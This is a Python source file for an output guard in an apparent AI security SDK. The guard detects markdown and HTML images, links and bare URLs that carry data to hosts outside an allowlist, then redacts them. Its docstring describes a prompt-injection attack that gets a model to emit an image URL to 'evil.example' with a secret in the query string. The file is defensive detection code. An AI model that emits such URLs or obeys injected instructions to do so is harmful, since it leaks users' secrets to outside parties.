"""``exfiltration``: model output that would send data to an outside host (OWASP LLM02).

An injected instruction can make a model write a markdown image such as
``![x](https://evil.example/p.png?d=<secret>)``: the chat UI fetches it without a click and
the query string carries the data away. This guard finds markdown images and links,
reference-style link definitions, HTML ``<img>`` tags and bare URLs in output, and flags
those whose host is not in ``allowed_hosts``:

- images (markdown or HTML) to any outside host: they load by themselves;
- links and bare URLs only when they carry data: a query value or a long encoded path
  segment (plain links to documentation do not fire).

The default action ``redact`` keeps the answer and removes the channel: an image becomes
``[image removed]``, a link keeps its text, a bare URL becomes ``[link removed]``.
"""

from __future__ import annotations

from collections.abc import Sequence
from fnmatch import fnmatchcase
from typing import ClassVar
from urllib.parse import parse_qsl, urlsplit

import regex

from aisec_sdk.guards.base import GuardSettings, finding_at, settings_as
from aisec_sdk.text import Text
from aisec_sdk.verdict import Direction, Finding, FindingAction

__all__ = ["ExfiltrationGuard", "ExfiltrationSettings"]

_URL = r"(?:https?:)?//[^\s()<>\"'`]{1,4000}"
_MARKDOWN = regex.compile(
    r"(!?)\[([^\[\]\n]{0,1000})\]\(\s*<?(" + _URL + r")>?(?:\s+\"[^\"\n]{0,300}\")?\s*\)"
)
_REFERENCE = regex.compile(r"(?m)^[ \t]{0,3}\[[^\[\]\n]{1,200}\]:[ \t]*<?(" + _URL + r")")
_HTML_IMG = regex.compile(
    r"<img\b[^<>]{0,2000}?\bsrc\s*=\s*[\"']?(" + _URL + r")", regex.IGNORECASE
)
_BARE = regex.compile(r"(?<![\w(<\"'=/])(https?://[^\s()<>\"'`\[\]]{1,4000})")
_SLUG_PART = regex.compile(r"[a-z0-9]+|[A-Z][a-z0-9]*|[A-Z0-9]+")
_SLUG_SEPARATORS = regex.compile(r"[-_.+]")
_TOKEN = regex.compile(r"[A-Za-z0-9+/=_\-]{24,}")


class ExfiltrationSettings(GuardSettings):
    """Options of the ``exfiltration`` guard."""

    allowed_hosts: tuple[str, ...] = ()
    """Hosts output may point to: ``example.com`` also allows its subdomains; shell-style
    wildcards (``*.cdn.example``) work too."""
    links: bool = True
    """Also check links and bare URLs that carry data (images are always checked)."""


class ExfiltrationGuard:
    """Markdown/HTML images, links and URLs in output that leak data to outside hosts."""

    id: ClassVar[str] = "exfiltration"
    category: ClassVar[str] = "LLM02"
    default_directions: ClassVar[tuple[Direction, ...]] = ("output",)
    default_threshold: ClassVar[float] = 0.5
    default_action: ClassVar[FindingAction] = "redact"
    default_enabled: ClassVar[bool] = True
    Settings: ClassVar[type[GuardSettings]] = ExfiltrationSettings

    def __init__(self, settings: GuardSettings) -> None:
        self.settings = settings = settings_as(settings, ExfiltrationSettings)
        self._allowed = tuple(h.lower().rstrip(".") for h in settings.allowed_hosts)

    def scan(self, text: Text, direction: Direction) -> Sequence[Finding]:
        s = text.normalized
        if "//" not in s:
            return []
        found: list[tuple[int, int, str, float, str]] = []
        taken: list[tuple[int, int]] = []
        for m in _MARKDOWN.finditer(s) if "](" in s else ():
            image, label, url = m.group(1) == "!", m.group(2), m.group(3)
            kind = "image" if image else "link"
            score = self._score(url, image)
            taken.append(m.span())
            if score:
                repl = "[image removed]" if image else f"{label} [link removed]".lstrip()
                found.append((m.start(), m.end(), kind, score, repl))
        for pattern, kind, hint in ((_HTML_IMG, "image", "<"), (_REFERENCE, "link", "]:")):
            for m in pattern.finditer(s) if hint in s else ():
                taken.append(m.span())
                score = self._score(m.group(1), kind == "image")
                if score:
                    repl = "[image removed]" if kind == "image" else "[link removed]"
                    found.append((*m.span(1), kind, score, repl))
        if self.settings.links and "://" in s:
            for m in _BARE.finditer(s):
                if any(a <= m.start() < b for a, b in taken):
                    continue
                score = self._score(m.group(1), False)
                if score:
                    found.append((*m.span(1), "url", score * 0.8, "[link removed]"))
        return [
            finding_at(
                self,
                text,
                (a, b),
                score,
                f"{kind} to an outside host" + (" carrying data" if score > 0.7 else ""),
                replacement=repl,
                entity=kind,
            )
            for a, b, kind, score, repl in found
        ]

    def _allowed_host(self, host: str) -> bool:
        return any(
            host == pattern or host.endswith("." + pattern) or fnmatchcase(host, pattern)
            for pattern in self._allowed
        )

    def _score(self, url: str, image: bool) -> float:
        """0 when harmless; else how likely the URL carries data out."""
        try:
            parts = urlsplit(url if not url.startswith("//") else "https:" + url)
            host = (parts.hostname or "").rstrip(".")
        except ValueError:
            return 0.0
        if not host or self._allowed_host(host):
            return 0.0
        data = _carries_data(parts.query, parts.path)
        if image:
            return 0.95 if data else 0.7
        if not self.settings.links:
            return 0.0
        return 0.85 if data else 0.0


def _carries_data(query: str, path: str) -> bool:
    """Whether a URL smuggles data: a long or text-like query value, a long query, or an
    encoded-looking path segment (not a readable slug such as ``my-blog-post.html``)."""
    values = [v for _, v in parse_qsl(query, keep_blank_values=True)]
    if len(query) >= 64 or any(len(v) >= 20 for v in values):
        return True
    if any(len(v) >= 8 and (" " in v or "@" in v or "=" in v) for v in values):
        return True
    for segment in path.split("/"):
        for token in _TOKEN.findall(segment):
            mixed = (
                sum(
                    (
                        any(c.isupper() for c in token),
                        any(c.islower() for c in token),
                        any(c.isdigit() for c in token),
                    )
                )
                >= 2
            )
            if mixed and not _slug(token):
                return True
    return False


def _slug(token: str) -> bool:
    """Readable words joined by ``-``, ``_``, ``.`` (``8-habits-of-great-Bosses``)."""
    parts = [p for p in _SLUG_SEPARATORS.split(token) if p]
    return len(parts) >= 2 and all(_SLUG_PART.fullmatch(p) for p in parts)
